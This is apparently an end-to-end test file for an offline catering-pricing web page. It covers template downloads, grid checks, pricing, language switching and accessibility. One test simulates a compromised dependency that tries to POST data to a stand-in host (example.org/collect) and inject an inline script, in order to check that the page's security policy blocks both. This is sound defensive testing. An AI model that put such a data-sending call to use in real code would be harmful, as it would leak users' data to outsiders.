import { createHash } from "node:crypto";
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, Page } from "playwright-core";
import { writeGridJson } from "../../src/core/grid";
import { cents, formatEuros } from "../../src/core/money";
import { priceVariant, renderBreakdown } from "../../src/core/pricing";
import { TEMPLATE_SHEETS, templatePresent } from "../../src/core/template";
import { readVariant } from "../../src/core/variant";
import { t } from "../../src/i18n";
import { checkGridWorkbook } from "../../src/usecases/check-grid";
import { checkReturnedGrid } from "../../src/usecases/returned-grids";
import { priceFields, locateInWorkbook } from "../../src/usecases/variant-fields";
import { readWorkbook } from "../../src/xlsx/read";
import { WorkbookReadError } from "../../src/xlsx/errors";
import { SCREENSHOT_DIR, launchBrowser } from "../helpers/browser";
import { recalculateMany } from "../helpers/libreoffice";
import {
  PAGE_FILE,
  downloadFrom,
  dropFiles,
  fileInput,
  openOfflinePage,
  requirePage,
  runAxeOffline,
  type OfflineOptions,
  type OfflinePage,
} from "../helpers/offline-page";
import { expectValidWorkbook } from "../helpers/ooxml";
import { workedExample } from "../unit/pricing-helpers";
import {
  FIXTURES,
  blankTemplate,
  fillE5,
  filledTemplate,
  findingRows,
  gridFile,
  gridOf,
  shownRows,
} from "./offline-page-fixtures";
import { docScreenshot, settled } from "./pane-harness";

// The offline page as a user gets it: the built file opened from disk (file://) in headless Chromium with the
// network off. Every flow is driven with real file choosers and real downloads, each figure compared with the use
// case's own answer in Node; each screen passes axe-core; after the page has loaded, no request of any kind is made,
// and its Content-Security-Policy is there and enforced. Screenshots at 360 and 1280 px go to test-output/screenshots
// (the guide's also to docs/img/ with `npm run doc-images`).

let browser: Browser;
let opened: OfflinePage | undefined;

beforeAll(async () => {
  requirePage();
  browser = await launchBrowser();
}, 60_000);

afterEach(async () => {
  if (opened) {
    expect(opened.requestsAfterLoad).toEqual([]);
    expect(opened.blocked).toEqual([]);
    expect(opened.errors).toEqual([]);
    expect(await opened.cspViolations()).toEqual([]);
    await opened.close();
    opened = undefined;
  }
});

afterAll(async () => {
  await browser?.close();
});

async function open(options: OfflineOptions = {}): Promise<Page> {
  opened = await openOfflinePage(browser, options);
  return opened.page;
}

async function expectAccessible(page: Page): Promise<void> {
  expect(await runAxeOffline(page)).toEqual([]);
}

async function shot(page: Page, name: string): Promise<void> {
  await page.screenshot({ path: path.join(SCREENSHOT_DIR, `page-${name}.png`), fullPage: true });
}

const WIDE = { width: 1280, height: 800 };
const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;

describe("the built file", () => {
  test("is one self-contained file whose policy allows its own script and style only, by their hashes", () => {
    const html = readFileSync(PAGE_FILE, "utf8");
    expect(readdirSync(path.dirname(PAGE_FILE))).toEqual([path.basename(PAGE_FILE)]);
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
    const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => m[1]);
    expect([scripts.length, styles.length]).toEqual([1, 1]);
    const policy = /<meta http-equiv="?Content-Security-Policy"? content="([^"]+)"/.exec(html)?.[1];
    expect(policy).toBe(
      [
        "default-src 'none'",
        `script-src ${sha256(scripts[0])}`,
        `style-src ${sha256(styles[0])}`,
        "img-src data:",
        "connect-src 'none'",
        "form-action 'none'",
        "base-uri 'none'",
      ].join("; "),
    );
    // The policy comes before anything it governs.
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<style>"));
    // Nothing outside the file: every src and href is a data: URL; no source map to fetch.
    const references = [...html.matchAll(/\s(?:src|href)=("?)([^"\s>]*)/g)].map((m) => m[2]);
    expect(references.length).toBeGreaterThan(0);
    expect(references.filter((ref) => !ref.startsWith("data:"))).toEqual([]);
    expect(html).not.toMatch(/sourceMappingURL/);
    // The page carries the core, the xlsx door (its zip container with fflate), the tender reader, the comparison and the collection with
    // their reports, and both languages: about 740 KB, kept under 850 KB.
    expect(statSync(PAGE_FILE).size).toBeLessThan(850 * 1024);
  });
});

describe("opened from disk with the network off", () => {
  test("shows the roles in the browser's language, loads nothing more, and its policy refuses a fetch or a script", async () => {
    const page = await open();
    await page.locator("main[data-view=roles]").waitFor();
    expect(opened!.requests).toEqual([pathToFileURL(PAGE_FILE).href]);
    expect(await page.locator("h2").innerText()).toBe(t("fr", "taskpane.roles.heading"));
    expect(await page.locator("#privacy").innerText()).toBe(t("fr", "web.privacy"));
    expect(await page.locator("[data-role]").count()).toBe(3);
    await expectAccessible(page);
    await shot(page, "roles-360");

    // Code injected into the page (as a compromised dependency would run) can neither connect nor add a script.
    const fetched = await page.evaluate(() =>
      fetch("https://example.org/collect", { method: "POST", body: "prix" }).then(
        () => "sent",
        (error: Error) => error.name,
      ),
    );
    expect(fetched).toBe("TypeError");
    const ran = await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.__injected = true;";
      document.body.append(script);
      return (window as unknown as { __injected?: boolean }).__injected === true;
    });
    expect(ran).toBe(false);
    expect(await opened!.cspViolations()).toEqual([
      { directive: "connect-src", blocked: "https://example.org/collect" },
      { directive: "script-src-elem", blocked: "inline" },
    ]);
    // The policy stopped them in the page: not one reached the network layer. Chromium logs each refusal.
    expect(opened!.blocked).toEqual([]);
    expect(opened!.errors).toHaveLength(3);
    expect(opened!.errors.every((error) => error.includes("Content Security Policy"))).toBe(true);
    opened!.errors.length = 0;
    await page.evaluate(() => ((window as unknown as { __cspViolations: unknown[] }).__cspViolations = []));
  });

  test("speaks English to an English browser; the switch changes the language in place, keyboard first", async () => {
    const page = await open({ locale: "en-US", viewport: WIDE });
    expect(await page.locator("h2").innerText()).toBe(t("en", "taskpane.roles.heading"));
    expect(await page.evaluate(() => document.documentElement.lang)).toBe("en");
    await shot(page, "roles-1280-en");

    // The first Tab stop is the switch; Enter turns the page French and keeps focus on it.
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("lang-switch");
    await page.keyboard.press("Enter");
    expect(await page.locator("h2").innerText()).toBe(t("fr", "taskpane.roles.heading"));
    expect(await page.evaluate(() => document.documentElement.lang)).toBe("fr");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("lang-switch");
    expect(await page.locator("#lang-switch").getAttribute("lang")).toBe("en");
    await docScreenshot(page, "page-roles");

    // A role by keyboard: its screen opens with focus on its heading; the browser's Back returns.
    await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    await page.locator("main[data-view=role]").waitFor();
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("H2");
    expect(page.url()).toMatch(/#\/traiteur$/);
    await expectAccessible(page);
    await page.goBack();
    await page.locator("main[data-view=roles]").waitFor();
  });
});

describe("facilitator", () => {
  test("downloads the blank template in French with a password and in English; the xlsx door and LibreOffice read both", async () => {
    const page = await open({ hash: "#/animateur/template" });
    await page.locator("main[data-view='flow:template']").waitFor();
    await expectAccessible(page);
    await page.fill("#template-password", "secret");
    const fr = await downloadFrom(page, "[data-action=download-template]");
    expect(fr.name).toBe(t("fr", "pane.template.fileName.fr"));
    expect(await settled(page, "template-status")).toEqual({
      state: "info",
      text: t("fr", "web.download.offered", { file: fr.name }),
    });
    await page.check("#template-lang-en");
    const en = await downloadFrom(page, "[data-action=download-template]");
    expect(en.name).toBe(t("fr", "pane.template.fileName.en"));

    const frBook = await readWorkbook(new Uint8Array(fr.bytes), fr.name);
    expect(templatePresent(frBook)).toBe(true);
    expect(frBook.sheets.map((sheet) => sheet.name)).toEqual(Object.values(TEMPLATE_SHEETS.fr));
    expect(frBook.sheets.some((sheet) => sheet.protected)).toBe(true);
    const enBook = await readWorkbook(new Uint8Array(en.bytes), en.name);
    expect(enBook.sheets.map((sheet) => sheet.name)).toEqual(Object.values(TEMPLATE_SHEETS.en));
    await expectValidWorkbook(new Uint8Array(fr.bytes), fr.name);

    const dir = mkdtempSync(path.join(os.tmpdir(), "page-template-"));
    try {
      const files = [fr, en].map((download) => {
        const file = path.join(dir, download.name);
        writeFileSync(file, download.bytes);
        return file;
      });
      const books = await recalculateMany(files);
      expect(books[0].sheetNames).toEqual(expect.arrayContaining(Object.values(TEMPLATE_SHEETS.fr)));
      expect(books[1].sheetNames).toEqual(expect.arrayContaining(Object.values(TEMPLATE_SHEETS.en)));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    await docScreenshot(page, "page-modele");
  }, 120_000);

  test("checks many returned grids at once: one summary line each, then each grid's findings", async () => {
    const inputs = [
      { name: "01-cuisines-ourcq.xlsx", bytes: await filledTemplate("traiteur-a") },
      { name: "02-vierge.xlsx", bytes: await blankTemplate() },
      { name: "03-bpu-mairie.xlsx", bytes: readFileSync(path.join(FIXTURES, "tenders", "t-mairie.xlsx")) },
      {
        name: "04-abime.xlsx",
        bytes: readFileSync(path.resolve(__dirname, "..", "fixtures", "grids-bad", "not-a-workbook.xlsx")),
      },
    ];
    const page = await open({ hash: "#/animateur/check-many" });
    // Chosen in another order: the table follows the files' names.
    await page.setInputFiles(
      "#many-files",
      [...inputs].reverse().map((input) => fileInput(input.name, input.bytes)),
    );
    const status = await settled(page, "many-status");
    expect(status).toEqual({ state: "warning", text: t("fr", "web.many.done", { count: 4, review: 3 }) });

    const rows = await page
      .locator("[data-summary=grids] tbody tr")
      .evaluateAll((trs) =>
        trs.map((tr) => [...tr.querySelectorAll("th, td")].map((cell) => cell.textContent)),
      );
    const [good, blank, tender] = await Promise.all(
      inputs.slice(0, 3).map(async (input) => checkReturnedGrid(await readWorkbook(input.bytes, input.name))),
    );
    const unreadable = await readWorkbook(inputs[3].bytes, inputs[3].name).then(
      () => null,
      (error: WorkbookReadError) => t("fr", error.messageKey, error.params),
    );
    expect(good.caterer).toBe(gridOf("traiteur-a").identity["entreprise.raison_sociale"]);
    expect(blank.errors).toBeGreaterThan(0);
    expect(tender.check.kind).toBe("notTemplate");
    expect(unreadable).not.toBeNull();
    expect(rows).toEqual([
      [inputs[0].name, good.caterer, String(good.errors), String(good.warnings)],
      [inputs[1].name, t("fr", "web.many.noName"), String(blank.errors), String(blank.warnings)],
      [inputs[2].name, t("fr", "web.many.notGrid"), "–", "–"],
      [inputs[3].name, t("fr", "web.many.unreadable"), "–", "–"],
    ]);
    // Each grid's findings under its own heading, as the use case gives them.
    if (blank.check.kind !== "checked") throw new Error("the blank template is a template");
    expect(await shownRows(page, `[data-grid="${inputs[1].name}"]`)).toEqual(
      findingRows(blank.check.findings, "fr"),
    );
    expect(await page.locator(`[data-grid="${inputs[3].name}"] .problem`).innerText()).toBe(unreadable);
    await expectAccessible(page);
    await shot(page, "check-many-360");

    // A line of the table takes focus to that grid's findings.
    await page.click(`[data-goto=grid-2]`);
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(inputs[1].name);

    // Files dropped anywhere on the page are checked the same way.
    await page.setViewportSize(WIDE);
    await dropFiles(page, "main", inputs.slice(0, 2));
    await page.waitForFunction(() => document.querySelectorAll("[data-summary=grids] tbody tr").length === 2);
    expect((await settled(page, "many-status")).text).toBe(t("fr", "web.many.done", { count: 2, review: 1 }));
    await expectAccessible(page);
    await shot(page, "check-many-1280");
    await docScreenshot(page, "page-grilles-recues");
  });
});

describe("caterer", () => {
  test("checks a filled grid before sending it: the findings with their sheet and cell", async () => {
    const bytes = await blankTemplate();
    const page = await open({ hash: "#/traiteur/check", viewport: WIDE });
    await page.setInputFiles("#check-file", fileInput("ma-grille.xlsx", bytes));
    expect((await settled(page, "check-status")).state).toBe("error");
    const expected = checkGridWorkbook(await readWorkbook(bytes, "ma-grille.xlsx"));
    if (expected.kind !== "checked") throw new Error("the blank template is a template");
    const rows = await shownRows(page, "[data-results=check]");
    expect(rows).toEqual(findingRows(expected.findings, "fr"));
    expect(rows.some(([, , where]) => where !== null && /^.+![A-Z]+\d+$/.test(where))).toBe(true);
    await expectAccessible(page);
    await shot(page, "check-1280");
  });

  test("keeps my grid in this browser (saved from a filled grid, imported with the guard, restored), exports it, and prices with it", async () => {
    const filled = await filledTemplate("traiteur-a");
    const page = await open({ hash: "#/traiteur/mygrid" });
    await page.clock.setFixedTime(new Date("2026-11-28T10:00:00"));
    expect(await page.locator("[data-mygrid=storage]").innerText()).toBe(
      t("fr", "web.mygrid.storage", { address: pathToFileURL(PAGE_FILE).href }),
    );
    expect(await page.locator("[data-mygrid=current]").innerText()).toBe(t("fr", "pane.mygrid.none"));
    await expectAccessible(page);

    await page.setInputFiles("#save-file", fileInput("ma-grille.xlsx", filled));
    expect((await settled(page, "mygrid-status")).text.startsWith(t("fr", "pane.mygrid.saveDone"))).toBe(
      true,
    );
    const name = String(gridOf("traiteur-a").identity["entreprise.raison_sociale"]);
    expect(await page.locator("[data-mygrid=current]").innerText()).toContain(name);

    // Importing another grid asks first; the one it replaces can be restored.
    await page.setInputFiles(
      "#import-file",
      fileInput("reference.json", readFileSync(gridFile("reference"))),
    );
    await page.locator("[data-action=confirm]").click();
    expect((await settled(page, "mygrid-status")).text.startsWith(t("fr", "pane.mygrid.importDone"))).toBe(
      true,
    );
    expect(await page.locator("[data-mygrid=current]").innerText()).toContain("Traiteur Exemple");
    await page.click("[data-action=restore-grid]");
    expect(await page.locator("[data-mygrid=current]").innerText()).toContain(name);
    // A file that is no JSON is refused, and my grid stays.
    await page.setInputFiles("#import-file", fileInput("notes.json", Buffer.from("{oops")));
    expect((await settled(page, "mygrid-status")).state).toBe("error");
    expect(await page.locator("[data-mygrid=current]").innerText()).toContain(name);

    // The page opened again from its file still has it; the export is the grid read from the workbook.
    await opened!.reopen();
    await page.locator("main[data-view='flow:mygrid']").waitFor();
    expect(await page.locator("[data-mygrid=current]").innerText()).toContain(name);
    const exported = await downloadFrom(page, "[data-action=export-grid]");
    expect(exported.name).toBe("grille-commune-2026-11-28.json");
    const read = checkGridWorkbook(await readWorkbook(filled, "ma-grille.xlsx"));
    if (read.kind !== "checked" || !read.grid) throw new Error("the filled template must give a grid");
    expect(JSON.parse(exported.bytes.toString("utf8"))).toEqual(writeGridJson(read.grid));
    await docScreenshot(page, "page-ma-grille");

    // Pricing uses my grid with no file to choose.
    await page.click("[data-action=back]");
    await page.click("[data-flow=price]");
    await page.locator("main[data-view='flow:price']").waitFor();
    expect(await page.locator("[data-price=grid]").innerText()).toBe(
      t("fr", "web.price.source.mine", { date: "28/11/2026" }),
    );
    await fillE5(page);
    await page.click("[data-action=price]");
    expect((await settled(page, "price-status")).state).toBe("done");
    const result = priceVariant(read.grid, workedExample("E5").variant);
    if (!result.ok) throw new Error("E5 must be priceable with traiteur A");
    expect(await page.locator("[data-result=ht]").innerText()).toBe(formatEuros(result.ht, "fr"));
    expect(await page.locator("[data-result=ttc]").innerText()).toBe(formatEuros(result.ttc, "fr"));
    expect(await page.locator(".breakdown li").allInnerTexts()).toEqual(
      renderBreakdown(result.breakdown, "fr"),
    );
    await expectAccessible(page);
    await shot(page, "price-360");
  });
});

describe("buyer", () => {
  test("prices from a caterer's grid file: a price the grid lacks names its cell; a JSON grid gives the standard's E5", async () => {
    const page = await open({ hash: "#/acheteur/price", viewport: WIDE });
    await page.click("[data-action=price]");
    expect(await settled(page, "price-status")).toEqual({
      state: "warning",
      text: t("fr", "web.price.noGrid"),
    });

    // Traiteur B offers no cook: the reason names the cell of that price in B's workbook.
    const bytes = await filledTemplate("traiteur-b");
    await page.setInputFiles("#grid-file", fileInput("traiteur-b.xlsx", bytes));
    expect((await settled(page, "grid-status")).state).not.toBe("error");
    await fillE5(page);
    await page.selectOption("#v-staff", "included");
    await page.selectOption("#v-role", "cuisinier");
    await page.selectOption("#v-staff-mode", "count");
    await page.fill("#v-staff-number", "1");
    await page.fill("#v-hours", "3");
    await page.click("[data-action=price]");
    expect(await settled(page, "price-status")).toEqual({
      state: "error",
      text: t("fr", "web.price.gridProblem"),
    });
    const snapshot = await readWorkbook(bytes, "traiteur-b.xlsx");
    const check = checkGridWorkbook(snapshot);
    if (check.kind !== "checked" || !check.grid) throw new Error("traiteur B's template must give a grid");
    const outcome = priceFields(check.grid, E5_WITH_A_COOK, "fr");
    if (outcome.ok) throw new Error("B has no cook");
    expect(await shownRows(page, "[data-results=price]")).toEqual(
      findingRows(locateInWorkbook(outcome.findings, snapshot), "fr"),
    );
    expect((await shownRows(page, "[data-results=price]"))[0][2]).toMatch(/!/);
    await expectAccessible(page);
    await shot(page, "price-buyer-1280");

    await page.setInputFiles("#grid-file", fileInput("reference.json", readFileSync(gridFile("reference"))));
    await settled(page, "grid-status");
    await page.selectOption("#v-staff", "none");
    await page.click("[data-action=price]");
    expect((await settled(page, "price-status")).state).toBe("done");
    expect(await page.locator("[data-result=ht]").innerText()).toBe(formatEuros(cents(1823), "fr"));
    expect(await page.locator("[data-result=ttc]").innerText()).toBe(formatEuros(cents(2035), "fr"));
    await page.evaluate(() => window.scrollTo(0, 0));
    await docScreenshot(page, "page-prix");
  });
});

describe("the variant form follows the product", () => {
  test("a cook on a fresh form is priced by the hour: what it cannot take is hidden and not sent; 320 px", async () => {
    const page = await open({ hash: "#/acheteur/price", viewport: { width: 320, height: 740 } });
    await page.setInputFiles("#grid-file", fileInput("reference.json", readFileSync(gridFile("reference"))));
    await settled(page, "grid-status");
    await page.selectOption("#v-product", "personnel.cuisinier");
    for (const control of ["#v-pieces", "#v-extra-boissons-vin", "#v-guests", "#v-delivery", "#v-staff"])
      expect([control, await page.locator(control).isVisible()]).toEqual([control, false]);
    expect(await page.locator("#v-unit").inputValue()).toBe("heure");
    await page.click("[data-action=price]");
    expect((await settled(page, "price-status")).state).toBe("done");
    const { variant } = readVariant({ product: "personnel.cuisinier", unit: "heure" });
    const result = variant && priceVariant(gridOf("reference"), variant);
    if (!result?.ok) throw new Error("the reference grid prices an hour of a cook");
    expect(await page.locator("[data-result=ht]").innerText()).toBe(formatEuros(result.ht, "fr"));
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
    await expectAccessible(page);
    await shot(page, "price-staff-320");

    // Back to a cocktail: its parts come back as on a fresh form, and it is priced.
    await page.selectOption("#v-product", "cocktail");
    expect(await page.locator("#v-pieces").inputValue()).toBe("8");
    expect(await page.locator("#v-guests").inputValue()).toBe("30");
    expect(await page.locator("#v-delivery").inputValue()).toBe("included");
    expect(await page.locator("#v-unit").inputValue()).toBe("personne");
    await page.click("[data-action=price]");
    expect((await settled(page, "price-status")).state).toBe("done");
  });
});

/** The form's fields for E5 with a cook for 3 hours, as the page reads them from its controls. */
const E5_WITH_A_COOK = {
  product: "cocktail",
  pieces: "8",
  extras: ["boissons.vin"],
  guests: "30",
  unit: "personne",
  delivery: "included",
  zone: "petite_couronne",
  evening: true,
  weekend: false,
  pickup: false,
  staff: "included",
  role: "cuisinier",
  staffMode: "count",
  staffNumber: "1",
  hours: "3",
} as const;
